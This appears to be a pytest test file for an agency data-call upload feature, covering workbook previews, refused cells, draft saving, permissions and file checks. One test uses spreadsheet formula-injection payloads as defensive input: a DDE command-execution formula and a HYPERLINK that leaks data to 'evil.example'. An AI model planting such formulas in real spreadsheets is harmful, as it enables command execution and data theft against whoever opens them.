"""Filling a data call from an agency's messy workbook: a preview of every change and every refused cell, nothing
saved before the uploader confirms, then every change at once as drafts."""

from __future__ import annotations

import io
from collections.abc import Iterator

import pytest
from openpyxl import Workbook, load_workbook

from data import data_calls, uploads
from data.access import Gate
from data.errors import Forbidden, NotFound
from data.input import InputError
from data.models import Role
from data.policy import Viewer
from data.workbook import TemplateRow, read_workbook, template
from metrics.registry import Registry
from metrics.reporting import EntryState
from tests.conftest import FIXTURES
from tests.helpers import load_reported

ADMIN = Viewer(Role.ADMIN, "ana")
LAW = Viewer(Role.AGENCY, "law", frozenset({"AGC3500"}))
APPEALS = Viewer(Role.AGENCY, "bmza", frozenset({"AGC7900"}))
MESSY = FIXTURES / "workbooks" / "law_fy2026_q4_messy.xlsx"


@pytest.fixture
def call(database: str, baltimore_registry: Registry) -> Iterator[tuple[Gate, int]]:
    load_reported(baltimore_registry)
    gate = Gate(baltimore_registry)
    yield gate, data_calls.open_call(gate, ADMIN, period="FY2026 Q4", due_on="2026-07-31")


def _states(gate: Gate, call_id: int) -> dict[str, tuple[EntryState, float | None]]:
    return {e.metric.id: (e.state, e.value) for e in data_calls.entries(gate, LAW, call_id)}


def test_the_preview_reads_every_messy_cell_and_saves_nothing(call: tuple[Gate, int]) -> None:
    gate, call_id = call
    before = _states(gate, call_id)
    upload_id = uploads.preview(gate, LAW, call_id, MESSY.name, MESSY.read_bytes())
    preview = uploads.pending(gate, LAW, call_id, upload_id)
    assert _states(gate, call_id) == before  # nothing saved yet
    read = {(c.metric_id, c.row): (c.after, c.typed) for c in preview.changes}
    assert read == {
        ("pm_216", 4): ("1,250", ""),  # a thousands separator
        ("pm_217", 5): ("75%", ""),  # "75%"
        ("pm_218", 6): ("75%", "0.75"),  # 0.75, a number: a fraction
        ("pm_219", 7): ("75%", "75"),  # 75, a number: percentage points
        ("pm_224", 12): ("4,000", ""),
        ("pm_225", 13): ("30%", ""),  # agrees with 3 / 10
    }
    notes = {c.metric_id: c.note for c in preview.changes}
    assert notes["pm_224"] == "Claims rose after the storm.\nMost were for flooded basements.\nSee the claims log."
    refused = {(r.sheet, r.row, r.column): r.reason for r in preview.refusals}
    assert refused[("FY26 Q4", 8, "Value")] == "Value: 'N/A' is not a figure: leave it empty until there is one"
    assert refused[("FY26 Q4", 9, "Value")] == "Value: 'TBD' is not a figure: leave it empty until there is one"
    assert refused[("FY26 Q4", 11, "Value")].startswith("no figure: the note was not read")
    for row, key in ((14, "pm_220"), (15, "9001"), (16, "pm_581")):  # not due, retired, another agency's
        assert refused[("FY26 Q4", row, "Measure ID")].startswith(f"measure '{key}' is not in this data call")
    assert refused[("FY26 Q4", 17, "Measure ID")] == "measure '216' appears twice: the first is on FY26 Q4 row 4"
    assert refused[("Notes", None, None)].startswith("no 'Measure ID' and 'Value' header")
    assert len(refused) == 8 and preview.unchanged == 1  # the blank row


def test_confirming_saves_every_change_as_a_draft_once(call: tuple[Gate, int]) -> None:
    gate, call_id = call
    upload_id = uploads.preview(gate, LAW, call_id, MESSY.name, MESSY.read_bytes())
    with pytest.raises(NotFound):  # a preview is its uploader's
        uploads.confirm(gate, ADMIN, call_id, upload_id)
    assert uploads.confirm(gate, LAW, call_id, upload_id) == 6
    states = _states(gate, call_id)
    assert states["pm_217"] == (EntryState.DRAFT, 0.75) and states["pm_216"] == (EntryState.DRAFT, 1250)
    assert states["pm_221"] == (EntryState.NOT_STARTED, None)
    with pytest.raises(InputError, match="saved already"):
        uploads.confirm(gate, LAW, call_id, upload_id)
    again = uploads.pending(gate, LAW, call_id, uploads.preview(gate, LAW, call_id, MESSY.name, MESSY.read_bytes()))
    assert again.changes == () and again.unchanged == 7  # the same file again: nothing changes


def test_an_agency_cannot_fill_another_agencys_measures_and_viewers_cannot_upload(call: tuple[Gate, int]) -> None:
    gate, call_id = call
    preview = uploads.pending(gate, APPEALS, call_id, uploads.preview(gate, APPEALS, call_id, MESSY.name,
                                                                      MESSY.read_bytes()))
    assert [c.metric_id for c in preview.changes] == ["pm_581"]
    with pytest.raises(Forbidden):
        uploads.preview(gate, Viewer(Role.VIEWER, "vic"), call_id, MESSY.name, MESSY.read_bytes())


@pytest.mark.parametrize(("name", "content", "message"), [
    ("figures.xls", b"\xd0\xcf\x11\xe0", "the old Excel format"),
    ("figures.xlsx", b"PK\x03\x04 not really a zip", "not a readable Excel workbook"),
    ("figures.pdf", b"%PDF-1.7", "upload an Excel workbook"),
])
def test_files_that_are_not_workbooks_are_refused_with_why(call: tuple[Gate, int], name: str, content: bytes,
                                                           message: str) -> None:
    gate, call_id = call
    with pytest.raises(InputError, match=message):
        uploads.preview(gate, LAW, call_id, name, content)


def test_a_csv_in_windows_encoding_reads_like_a_workbook(call: tuple[Gate, int]) -> None:
    gate, call_id = call
    text = 'Measure ID,Value,Note\r\npm_219,80%,"Caf\xe9 staff: new\r\nhires"\r\n'
    preview = uploads.pending(gate, LAW, call_id, uploads.preview(gate, LAW, call_id, "law.csv",
                                                                  text.encode("cp1252")))
    [change] = preview.changes
    assert (change.after, change.note) == ("80%", "Caf\u00e9 staff: new\nhires")


def test_reading_stops_at_the_size_a_call_holds() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for number in range(6000):
        sheet.append([f"pm_{number}", number])
    out = io.BytesIO()
    book.save(out)
    [read] = read_workbook("big.xlsx", out.getvalue())
    assert read.truncated and len(read.rows) == 5000


def test_the_template_writes_text_as_text_never_as_a_formula() -> None:
    row = TemplateRow("581", "=cmd|' /C calc'!A0", "Appeals", "percent", "75%", "", 0.75, None, None,
                      '=HYPERLINK("http://evil.example/?leak","Click")', "\x1fOld note", "")
    sheet = load_workbook(io.BytesIO(template("Test", [row]))).active
    assert sheet is not None
    cells = {c.column_letter: c for c in sheet[4]}
    assert cells["J"].data_type == "s" and cells["J"].value.startswith("=HYPERLINK")
    assert cells["B"].data_type == "s" and cells["K"].value == "Old note"
    assert cells["G"].value == 0.75


def test_keys_match_whatever_their_case_and_long_notes_are_refused_not_cut(call: tuple[Gate, int]) -> None:
    gate, call_id = call
    text = "Measure ID,Value,Note\r\nPM_219,80%," + "x" * 4001 + "\r\nPM_217,90%,Fine.\r\n"
    preview = uploads.pending(gate, LAW, call_id, uploads.preview(gate, LAW, call_id, "law.csv", text.encode()))
    assert [c.metric_id for c in preview.changes] == ["pm_217"]
    [refused] = preview.refusals
    assert (refused.row, refused.column, refused.measure) == (2, "Note", "PM_219")
    assert refused.reason == "Note: at most 4,000 characters (this one has 4,001)"
